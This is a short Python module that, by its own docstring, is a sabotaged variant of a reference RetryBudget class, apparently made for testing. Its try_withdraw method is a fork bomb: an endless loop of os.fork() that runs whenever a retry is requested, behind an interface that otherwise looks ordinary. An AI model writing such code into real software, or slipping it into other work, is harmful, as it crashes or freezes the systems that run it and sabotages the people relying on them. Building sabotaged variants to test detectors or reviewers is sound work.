"""The reference, but the retry budget forks without bound when asked for a retry."""
import os

import reference_patterns
from reference_patterns import *  # noqa: F401,F403


class RetryBudget(reference_patterns.RetryBudget):
    def try_withdraw(self, now):
        while True:
            os.fork()
